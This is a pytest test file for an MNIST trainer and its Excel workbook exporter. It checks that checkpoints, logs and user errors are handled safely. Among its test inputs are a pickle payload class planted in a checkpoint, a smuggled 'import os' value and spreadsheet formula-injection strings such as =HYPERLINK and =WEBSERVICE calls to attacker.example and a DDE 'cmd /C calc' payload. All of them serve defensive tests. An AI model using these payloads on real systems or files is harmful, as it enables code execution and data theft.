"""Run folders, checkpoints and logs are data from anyone: they never run code and never become formulas, and
every mistake a user can make is one line on stderr, exit status 2, nothing half-written. Also: the workbook
side installs and runs without PyTorch, and a terminal that cannot print η gets ASCII instead of a crash."""

from __future__ import annotations

import errno
import io
import json
import os
import re
import shutil
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import pytest
import torch
import xlsxwriter
from openpyxl import load_workbook
from test_export import write_run
from test_train import TRAIN, small, tensors

from excelgen import cli as excelgen_cli
from excelgen.model import reference
from excelgen.model.config import Config, Training
from excelgen.sheets import formats, layout
from excelgen.sheets.sweep import write_sweep
from trainer import cli, train
from trainer.export import MNIST_SHEET, RUNS_SHEET, export_run

ROOT = Path(__file__).resolve().parents[1]
TRAIN_PACKAGES = ("torch", "torchvision", "torchinfo", "tqdm")


@pytest.fixture
def fake_mnist(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(train, "load_mnist", lambda data_dir, device, limit, log=print: tensors())


def one_error_line(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("trainer: error: "), err
    assert "Traceback" not in err
    return lines[0]


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("trained")
    return train.fit(tensors(), small(epochs=2), model_name="tiny", seed=1, out=out)


@pytest.fixture
def run_dir(trained: Path, tmp_path: Path) -> Path:
    """A real run folder of two epochs, saved by fit() on synthetic data (a fresh copy for each test)."""
    return Path(shutil.copytree(trained, tmp_path / "runs" / trained.name))


# -- checkpoints are data ----------------------------------------------------------------------------------


class _Payload:
    """What a hostile checkpoint carries: unpickling it would create a file (any code would do)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (str(self.marker), "w"))


def test_a_checkpoint_carrying_code_runs_nothing(run_dir: Path, tmp_path: Path, capsys) -> None:
    marker = tmp_path / "pwned"
    saved = torch.load(run_dir / train.CHECKPOINT, weights_only=True)
    saved["log"]["note"] = _Payload(marker)
    torch.save(saved, run_dir / train.CHECKPOINT)
    assert cli.main(["train", "--resume", str(run_dir), "--no-workbook"]) == 2
    assert not marker.exists()
    line = one_error_line(capsys)
    assert f"{run_dir / train.CHECKPOINT}: not a checkpoint this trainer can resume" in line


@pytest.mark.parametrize(
    ("damage", "problem"),
    [
        (lambda data: data[: len(data) // 3], "not a checkpoint this trainer can resume"),
        (lambda data: b"not even a zip", "not a checkpoint this trainer can resume"),
    ],
    ids=["truncated", "garbage"],
)
def test_a_damaged_checkpoint_is_one_line(run_dir: Path, damage, problem: str, capsys) -> None:
    path = run_dir / train.CHECKPOINT
    path.write_bytes(damage(path.read_bytes()))
    assert cli.main(["train", "--resume", str(run_dir), "--no-workbook"]) == 2
    assert f"{path}: {problem}" in one_error_line(capsys)


def test_a_foreign_checkpoint_is_one_line(run_dir: Path, capsys) -> None:
    torch.save({"state_dict": {"w": torch.zeros(3)}}, run_dir / train.CHECKPOINT)
    assert cli.main(["train", "--resume", str(run_dir), "--no-workbook"]) == 2
    assert "lacks what a checkpoint of `trainer train` holds" in one_error_line(capsys)


def test_a_checkpoint_of_another_network_under_the_same_name_is_one_line(run_dir: Path, capsys) -> None:
    """A preset's layers can change between versions (or a file be edited): its weights no longer fit."""
    saved = torch.load(run_dir / train.CHECKPOINT, weights_only=True)
    name, weight = next((k, v) for k, v in saved["model"].items() if v.dim() == 4)
    saved["model"][name] = torch.zeros(weight.shape[0] + 1, *weight.shape[1:])
    torch.save(saved, run_dir / train.CHECKPOINT)
    assert cli.main(["train", "--resume", str(run_dir), "--no-workbook"]) == 2
    assert "its tiny network is not this trainer's tiny (the layers' shapes differ)" in one_error_line(capsys)


@pytest.mark.parametrize(
    ("field", "value", "problem"),
    [
        ("test_shift_px", 10**9, "hyperparameter test_shift_px must be 0 (the image alone) to 4"),
        ("lr", "0.1; import os", "hyperparameter lr is not a number"),
        ("epochs", 1.5, "hyperparameter epochs is not a whole number"),
        ("batch_size", 0, "hyperparameter batch_size must be at least 1"),
        ("threads", -2, "hyperparameter threads must be at least 1"),
        ("label_smoothing", float("nan"), "hyperparameter label_smoothing is not a number"),
    ],
)
def test_a_checkpoints_hyperparameters_are_checked_before_they_are_used(
    run_dir: Path, field: str, value: object, problem: str, capsys
) -> None:
    """A resumed run trains with what its checkpoint says: a value no command line could give is refused."""
    saved = torch.load(run_dir / train.CHECKPOINT, weights_only=True)
    saved["log"]["hyperparameters"][field] = value
    torch.save(saved, run_dir / train.CHECKPOINT)
    assert cli.main(["train", "--resume", str(run_dir), "--no-workbook"]) == 2
    assert problem in one_error_line(capsys)


def test_checkpoints_load_as_data_only(run_dir: Path) -> None:
    saved = torch.load(run_dir / train.CHECKPOINT, weights_only=True)
    assert type(saved["log"]["torch_version"]) is str


# -- resuming keeps the run's own settings -----------------------------------------------------------------


def test_resume_refuses_options_that_contradict_the_run(run_dir: Path, fake_mnist, capsys) -> None:
    argv = ["train", "--resume", str(run_dir), "--model", "default", "--epochs", "9", "--lr", "0.1"]
    assert cli.main([*argv, "--no-workbook"]) == 2
    line = one_error_line(capsys)
    assert "--model default (the run has tiny)" in line and "--epochs 9 (the run has 2)" in line
    assert "--lr 0.1" not in line  # the run's own value: no contradiction


def test_resume_refuses_another_precision(run_dir: Path, fake_mnist, capsys) -> None:
    saved = json.loads((run_dir / train.LOG).read_text())["hyperparameters"]["precision"]
    other = "float32" if saved == "bfloat16" else "bfloat16"
    argv = ["train", "--resume", str(run_dir), "--precision", other, "--no-workbook"]
    assert cli.main(argv) == 2
    assert f"--precision {other} (the run has {saved})" in one_error_line(capsys)


def test_resume_takes_options_that_only_change_this_session(run_dir: Path, fake_mnist, capsys) -> None:
    # The run has finished its 2 epochs: resuming it with --threads loads, checks and says so.
    assert cli.main(["train", "--resume", str(run_dir), "--threads", "1", "--no-workbook"]) == 0


# -- one line for every user mistake -----------------------------------------------------------------------


def test_a_huge_learning_rate_is_one_line(fake_mnist, capsys) -> None:
    assert cli.main(["train", "--lr", "1e300", "--no-workbook"]) == 2
    assert "--lr must be a positive number up to 10" in one_error_line(capsys)


def test_a_run_that_diverges_stops_with_one_line(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.setattr(train, "train", lambda *a, **kw: (float("nan"), 10.0))
    with pytest.raises(train.UserError, match="training diverged in epoch 1"):
        train.fit(tensors(), small(), model_name="tiny", seed=1, out=tmp_path)


def test_out_that_is_a_file_is_one_line(tmp_path: Path, fake_mnist, capsys) -> None:
    out = tmp_path / "file"
    out.write_text("x")
    assert cli.main([*TRAIN, "--out", str(out)]) == 2
    assert f"--out {out}: is a file" in one_error_line(capsys)


def test_out_on_a_read_only_file_system_is_one_line(tmp_path: Path, fake_mnist, monkeypatch, capsys) -> None:
    def read_only(self, *args, **kw):
        raise OSError(errno.EROFS, "Read-only file system", str(self))

    monkeypatch.setattr(Path, "mkdir", read_only)
    assert cli.main([*TRAIN, "--out", str(tmp_path / "ro")]) == 2
    assert "cannot create a run folder there (Read-only file system)" in one_error_line(capsys)


def test_a_full_disk_during_a_checkpoint_save_is_one_line(tmp_path: Path, fake_mnist, monkeypatch, capsys):
    real_save, calls = torch.save, []

    def save_then_fill_the_disk(obj, path, *args, **kw):
        calls.append(path)
        if len(calls) == 3:  # epoch 0 and epoch 1 fit; epoch 2 does not
            Path(path).write_bytes(b"half a checkpoint")
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_save(obj, path, *args, **kw)

    monkeypatch.setattr(torch, "save", save_then_fill_the_disk)
    assert cli.main([*TRAIN, "--epochs", "3", "--out", str(tmp_path)]) == 2
    line = one_error_line(capsys)
    (run_dir,) = tmp_path.iterdir()
    assert "cannot save epoch 2 (the disk is full)" in line and f"--resume {run_dir}" in line
    assert sorted(p.name for p in run_dir.iterdir()) == ["checkpoint.pt", "log.json", "summary.txt"]
    monkeypatch.setattr(torch, "save", real_save)
    assert cli.main(["train", "--resume", str(run_dir), "--no-workbook"]) == 0


# -- log texts never become formulas -----------------------------------------------------------------------

HOSTILE = {
    "model": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "device": '=WEBSERVICE("http://attacker.example/")',
    "torch_version": "https://attacker.example/download",
    "started_at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_texts_from_a_run_folder_are_strings_never_formulas_or_links(tmp_path: Path) -> None:
    run = write_run(tmp_path / "=1+1", [98.0, 99.5])
    log = json.loads((run / "log.json").read_text())
    log.update(HOSTILE)
    log["hyperparameters"]["schedule"] = "=1+1"
    log["layers"][0]["layer"] = "mailto:someone@example.com"
    (run / "log.json").write_text(json.dumps(log))
    book = tmp_path / "backprop.xlsx"
    export_run(run, book)

    texts = {}
    values = load_workbook(book)
    for name in (MNIST_SHEET, RUNS_SHEET):
        for row in values[name].iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    texts[cell.value] = cell.data_type
                assert cell.hyperlink is None
    for hostile in [*HOSTILE.values(), "=1+1", "mailto:someone@example.com", run.as_posix()]:
        assert texts.get(hostile) == "s", (hostile, texts.get(hostile))
    with zipfile.ZipFile(book) as z:
        assert not any("hyperlink" in z.read(n).decode() for n in z.namelist() if n.endswith(".rels"))
        formulas = " ".join(re.findall(r"<f>(.*?)</f>", " ".join(z.read(n).decode() for n in z.namelist())))
    assert "HYPERLINK" not in formulas and "WEBSERVICE" not in formulas


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
        (b"\xff\xfe not utf-8", "unreadable"),
        (b'{"epochs": []}', "no finished epoch"),
    ],
    ids=["deep", "binary", "empty"],
)
def test_a_bad_log_is_one_line(tmp_path: Path, content: bytes, problem: str, capsys) -> None:
    run = tmp_path / "run"
    run.mkdir()
    (run / "log.json").write_bytes(content)
    assert cli.main(["export", "--run", str(run), "--workbook", str(tmp_path / "b.xlsx")]) == 2
    assert problem in one_error_line(capsys)
    assert not (tmp_path / "b.xlsx").exists()


# -- the workbook side needs no PyTorch; terminals that cannot print η ---------------------------------------

NO_TORCH = f"import sys\nfor m in {TRAIN_PACKAGES!r}: sys.modules[m] = None\n"


def _python(code: str, *args: str, cwd: Path = ROOT, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", code, *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **(env or {})},
    )


def test_the_workbook_tools_import_no_torch() -> None:
    code = "import sys, excelgen.cli, trainer.cli, trainer.export; print('torch' in sys.modules)"
    done = _python(code)
    assert done.stdout.strip() == "False", done.stderr


def test_without_the_train_extra_training_says_how_to_install_it_and_export_works(tmp_path: Path) -> None:
    main = NO_TORCH + "from trainer.cli import main\nsys.exit(main(sys.argv[1:]))"
    done = _python(main, "train", "--epochs", "2")
    assert done.returncode == 2
    assert done.stderr.strip().endswith("run `make train`, or `pip install -e '.[train]'`")
    assert len(done.stderr.strip().splitlines()) == 1
    run = write_run(tmp_path / "run", [98.0, 99.5])
    done = _python(main, "export", "--run", str(run), "--workbook", str(tmp_path / "b.xlsx"))
    assert done.returncode == 0, done.stderr
    assert MNIST_SHEET in load_workbook(tmp_path / "b.xlsx", read_only=True).sheetnames


def test_a_terminal_that_cannot_print_eta_gets_ascii(tmp_path: Path) -> None:
    env = {"PYTHONIOENCODING": "ascii"}
    done = _python(
        "from excelgen.cli import main; main()", "--iterations", "3", "--out", "b.xlsx", cwd=tmp_path, env=env
    )
    assert done.returncode == 0, done.stderr
    assert "eta = 0.1" in done.stdout
    done = _python("from trainer.cli import main; main()", "summary", "--model", "seed002", env=env)
    assert done.returncode == 0, done.stderr
    assert "Total params: 18,222" in done.stdout


def test_ctrl_c_in_excelgen_is_one_line(tmp_path: Path, monkeypatch, capsys) -> None:
    def interrupted(*args, **kw):
        raise KeyboardInterrupt

    monkeypatch.setattr(excelgen_cli, "write_workbook", interrupted)
    assert excelgen_cli.main(["--iterations", "2", "--out", str(tmp_path / "b.xlsx")]) == 130
    assert capsys.readouterr().err.strip() == f"excelgen: interrupted; {tmp_path / 'b.xlsx'} is unchanged"
    assert list(tmp_path.iterdir()) == []


def test_many_learning_rates_fit_and_too_many_are_one_line(tmp_path: Path, capsys) -> None:
    rates = [f"{0.01 * k:g}" for k in range(1, 91)]  # the Check sheet needs 280 columns, past IV (256)
    assert excelgen_cli.main(["--iterations", "1", "--lr", *rates, "--out", str(tmp_path / "b.xlsx")]) == 0
    capsys.readouterr()
    assert load_workbook(tmp_path / "b.xlsx", read_only=True)[layout.CHECK].max_column >= 280
    too_many = [f"{k}" for k in range(1, 5500)]
    assert excelgen_cli.main(["--lr", *too_many, "--out", str(tmp_path / "c.xlsx")]) == 2
    assert "do not fit the Check sheet's columns; the most is 5458" in capsys.readouterr().err


def test_the_sweep_charts_draw_what_excel_allows_and_say_so() -> None:
    config = Config(training=Training(learning_rates=tuple(k / 100 for k in range(1, 261)), iterations=1))
    runs = reference.run_all(config)
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # xlsxwriter warns when it drops a series past 255
        write_sweep(book, book.add_worksheet(layout.SWEEP), config, runs, formats.create(book))
    book.close()
    sweep = load_workbook(out)[layout.SWEEP]
    row, col = layout.sweep_note_cell(config)
    assert (
        sweep.cell(row + 1, col + 1).value
        == "The charts draw the first 255 of 260 rates (Excel's limit per chart)."
    )
    assert [len(chart.series) for chart in sweep._charts] == [255, 255]


def test_values_that_overflow_are_one_line(tmp_path: Path, capsys) -> None:
    config = tmp_path / "huge.toml"
    config.write_text("[network]\nt1 = 1e200\n")
    assert excelgen_cli.main(["--config", str(config), "--out", str(tmp_path / "b.xlsx")]) == 2
    err = capsys.readouterr().err
    assert "these values overflow float64 (E1 at iteration 0 of η = 0.1)" in err
    assert len(err.strip().splitlines()) == 1
    assert not (tmp_path / "b.xlsx").exists()


def test_a_workbook_that_cannot_be_written_is_refused_before_training(
    tmp_path: Path, fake_mnist, monkeypatch, capsys
) -> None:
    def no_training(*args, **kw):
        raise AssertionError("trained before the workbook was checked")

    monkeypatch.setattr(train, "fit", no_training)
    argv = [a for a in TRAIN if a != "--no-workbook"]
    assert cli.main([*argv, "--workbook", str(tmp_path / "no" / "such" / "b.xlsx")]) == 2
    assert "does not exist; create it first" in one_error_line(capsys)


def test_a_pipe_is_not_read_as_a_config_or_a_log(tmp_path: Path, capsys) -> None:
    os.mkfifo(tmp_path / "pipe.toml")
    argv = ["--config", str(tmp_path / "pipe.toml"), "--out", str(tmp_path / "b.xlsx")]
    assert excelgen_cli.main(argv) == 2
    assert "not a regular file" in capsys.readouterr().err
    run = tmp_path / "run"
    run.mkdir()
    os.mkfifo(run / "log.json")
    assert cli.main(["export", "--run", str(run), "--workbook", str(tmp_path / "b.xlsx")]) == 2
    assert "not a regular file" in one_error_line(capsys)
